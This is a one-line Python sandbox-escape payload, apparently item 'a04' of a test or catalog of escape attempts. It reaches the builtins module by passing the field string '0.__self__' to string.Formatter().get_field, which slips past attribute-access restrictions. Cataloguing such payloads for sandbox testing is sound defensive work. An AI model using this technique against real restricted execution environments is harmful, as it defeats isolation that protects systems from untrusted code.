# a04: gain: the builtins module itself
import string
reach(string.Formatter().get_field("0.__self__", (len,), {})[0])
